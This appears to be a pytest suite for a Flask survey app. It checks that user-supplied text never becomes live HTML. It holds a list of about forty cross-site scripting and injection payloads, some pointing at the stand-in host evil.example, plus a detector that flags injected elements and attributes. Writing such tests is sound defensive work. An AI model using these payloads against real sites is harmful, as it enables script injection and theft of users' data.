"""R4.3: whatever people write is text; no element and no attribute of a page is born from it."""

import itertools
import re
from collections.abc import Callable
from html import unescape
from typing import Any
from urllib.parse import quote

import html5lib
import pytest
from cast import csrf, sign_in
from flask import Flask
from surveys.families import form
from trust.stage import Team, furnish, survey_of
from trust.test_other_teams import address, rules

ATTACKS = (
    "<script id=zzx>alert(1)</script>",
    "</script><script id=zzx>alert(1)</script>",
    "<img id=zzx src=x onerror=alert(1)>",
    "<svg id=zzx onload=alert(1)>",
    "<svg><script id=zzx>alert(1)</script></svg>",
    "<iframe id=zzx src=javascript:alert(1)></iframe>",
    "<iframe id=zzx srcdoc='<script>alert(1)</script>'>",
    "<a id=zzx href=javascript:alert(1)>x</a>",
    "<base id=zzx href=//evil.example/>",
    "<meta id=zzx http-equiv=refresh content=0;url=//evil.example>",
    "<style id=zzx>*{display:none}</style>",
    "<link id=zzx rel=stylesheet href=//evil.example>",
    "<form id=zzx action=//evil.example><button>x</button></form>",
    "<button id=zzx formaction=//evil.example>x",
    "<input id=zzx autofocus onfocus=alert(1)>",
    "<details id=zzx open ontoggle=alert(1)>",
    "<video id=zzx><source onerror=alert(1)></video>",
    "<object id=zzx data=javascript:alert(1)></object>",
    "<embed id=zzx src=//evil.example>",
    "<math id=zzx><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<xmp id=zzx><img src=x onerror=alert(1)></xmp>",
    "<template id=zzx><b>x</b></template>",
    "<noscript id=zzx><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><b id=zzx>x",
    "</textarea><b id=zzx>x",
    "</style><b id=zzx>x",
    "</option></select><b id=zzx>x",
    "--><b id=zzx>x",
    "]]><b id=zzx>x",
    '" zzx=1 onmouseover=alert(1) x="',
    "' zzx=1 onmouseover=alert(1) x='",
    '"><b id=zzx>x',
    "'><b id=zzx>x",
    "` zzx=1 onclick=alert(1) x=`",
    "<b id=zzx hx-get=//evil.example hx-trigger=load>x</b>",
    "<b id=zzx data-hx-on:load=alert(1)>x</b>",
    "{{ 7*191 }}{% set zzx = 1 %}",
    "%(zzx)s %s %d {zzx} ${zzx}",
    "&lt;b id=zzx&gt; &#x3c;b id=zzx&#x3e;",
    "<<b id=zzx>>\u2028<b/id=zzx>",
)
BANNED = {"iframe", "object", "embed", "base", "xmp", "math", "template", "noscript", "applet"}
LINKS = ("href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href")
OURS = re.compile(
    r"http://localhost/|(?![a-z][a-z0-9+.-]*:|//|/\\)|data:,|data:image/svg\+xml", re.IGNORECASE
)


def faults(page: str) -> list[str]:
    """What on a page cannot be ours."""
    found = []
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        name = element.tag.rpartition("}")[2].lower()
        where = {str(a).lower(): v for a, v in element.attrib.items()}
        if name in BANNED or (name == "script" and (element.text or "src" not in where)):
            found.append(f"<{name}>")
        if where.get("id") == "zzx":
            found.append(f"<{name} id=zzx>")
        if name == "meta" and "http-equiv" in where:
            found.append("meta refresh")
        for attribute, value in where.items():
            if attribute.startswith("on") or attribute in ("zzx", "style", "srcdoc"):
                found.append(f"{name} {attribute}={value[:40]}")
            if attribute in LINKS and not OURS.match(value.strip()):
                found.append(f"{name} {attribute}={value[:60]}")
    if "1337" in page and "7*191" not in unescape(page):
        found.append("a template in a text ran")
    return found


@pytest.fixture
def attacked(app: Flask, password_hash: str) -> Team:
    """A team in which every name and every answer is an attack, all of them in turn."""
    names, answers = itertools.cycle(ATTACKS), itertools.cycle(ATTACKS)
    fixed: dict[str, str] = {}

    def dress(what: str) -> str:
        return fixed.setdefault(what, f"{what} {next(names)}")

    return furnish(
        app,
        password_hash,
        "alpha",
        "zzx",
        said=lambda i: f"the bus comes late {i} {next(answers)}",
        dress=dress,
    )


def test_R4_3_every_page_shows_what_people_wrote_as_text(app: Flask, attacked: Team) -> None:
    client = sign_in(app, "alpha-organizer")
    showing = 0
    for rule in rules(app):
        if "GET" not in (rule.methods or ()):
            continue
        path = address(app, rule, attacked)
        for more in ("", "page=2", "view=whys", "view=fishbone"):
            answer = client.get(path + ("&" if "?" in path else "?") * bool(more) + more)
            if answer.mimetype == "text/html" and answer.status_code == 200:
                page = answer.get_data(as_text=True)
                assert faults(page) == [], path
                showing += "zzx" in page
            if more and "board" not in rule.endpoint:
                break
    assert showing > 25


def test_R4_3_all_attacks_in_one_place_are_shown_as_they_were_typed(
    app: Flask, attacked: Team
) -> None:
    client = sign_in(app, "alpha-organizer")
    seen = ""
    for number in range(1, 8):
        answer = client.get(f"/p/{attacked.project_id}/read?page={number}")
        assert faults(answer.get_data(as_text=True)) == []
        tree = html5lib.parse(answer.get_data(as_text=True), namespaceHTMLElements=False)
        seen += "".join(tree.itertext())
    for attack in ATTACKS:
        assert attack in seen, attack


REFLECTED = (
    ("read", "words"),
    ("read", "language"),
    ("gaps", "reason"),
    ("gaps", "group"),
    ("gaps", "dimension"),
    ("gaps", "sort"),
    ("gaps/events", "title"),
    ("gaps/events", "kind"),
    ("causes/power", "dimension"),
    ("board", "view"),
)


def test_R4_3_what_stands_in_an_address_is_text_too(app: Flask, alpha: Team) -> None:
    client = sign_in(app, "alpha-organizer")
    for place, name in REFLECTED:
        for attack in (ATTACKS[0], ATTACKS[23], *ATTACKS[29:34]):
            more = "on=2026-01-01&against=group:Westside&"
            answer = client.get(f"/p/{alpha.project_id}/{place}?{more}{name}={quote(attack)}")
            assert answer.status_code == 200
            assert faults(answer.get_data(as_text=True)) == [], (place, name, attack)


def test_R4_3_forms_that_come_back_hold_what_was_typed_as_text(app: Flask, attacked: Team) -> None:
    client = sign_in(app, "alpha-organizer")
    home = f"/p/{attacked.project_id}"
    token = csrf(client, f"{home}/")
    all_of_it = " ".join(ATTACKS)
    fields: dict[str, Any] = dict.fromkeys(
        ("label", "into", "title", "notes", "on", "kind", "reason", "why", "name", "places"),
        all_of_it,
    )
    answers = [
        client.post(f"{home}/gaps/events", data={"csrf_token": token, **fields}),
        client.post(f"{home}/conversations/new", data={"csrf_token": token, **fields}),
        client.post(f"{home}/surveys/new", data={"csrf_token": token, **fields}),
        client.post(
            f"{home}/proposals/{attacked.ids['proposal_id']}/merge",
            data={"csrf_token": token, **fields},
        ),
        # The page of a form that was open for too long repeats names and values.
        client.post(f"{home}/gaps/events?{quote(all_of_it)}", data={all_of_it: all_of_it}),
        app.test_client().get(f"/login?next={quote(all_of_it)}"),
        app.test_client().post("/login", data={"email": all_of_it, "next": all_of_it}),
    ]
    for answer in answers:
        assert answer.status_code in (200, 400, 422), answer.request.path
        assert faults(answer.get_data(as_text=True)) == [], answer.request.path


def test_R4_3_family_pages_hold_survey_and_words_as_text(app: Flask, attacked: Team) -> None:
    path = survey_of(app, attacked)
    invitation = f"/s/i/{attacked.ids['invitation']}"
    client = app.test_client()
    all_of_it = " ".join(ATTACKS)
    sent = form(q__barrier=all_of_it)
    cases: list[Callable[[], Any]] = [
        lambda: client.get(path),
        lambda: client.get(f"{path}/en/thanks"),
        lambda: client.post(path, data=sent | {"key": all_of_it}),
        lambda: client.post(path, data=sent | {"language": "en"}),
        lambda: client.post(path, data=sent | {"website": all_of_it}),
        lambda: client.post(path, data={all_of_it: all_of_it}),
        lambda: client.get(f"/s/{quote(all_of_it, safe='')}"),
        lambda: client.get(f"{path}/{quote(all_of_it, safe='')}"),
        lambda: client.get(f"{path}/en/resume"),
        lambda: client.post(f"{path}/en/resume", data={"code": all_of_it}),
        lambda: client.post(f"{path}/en/take-back", data={"code": all_of_it}),
        lambda: client.get(invitation),
        lambda: client.get(f"{invitation}/es/thanks"),
        lambda: client.post(invitation, data={"slot": all_of_it, "need": all_of_it}),
        lambda: client.post(invitation, data={"language": "es", "key": all_of_it}),
        lambda: client.post(invitation, data={all_of_it: all_of_it}),
    ]
    for case in cases:
        answer = case()
        assert faults(answer.get_data(as_text=True)) == [], answer.request.path


def test_R4_3_these_checks_see_an_attack_that_got_through() -> None:
    bare = [attack for attack in ATTACKS[:36] if not faults(f"<p title='x'>{attack}</p>")]
    assert bare == [a for a in ATTACKS[:36] if a.startswith(('" ', "' ", "` "))]
    assert faults(f'<p title="{ATTACKS[29]}">x</p>') and faults("<p title='" + ATTACKS[30] + "'>")
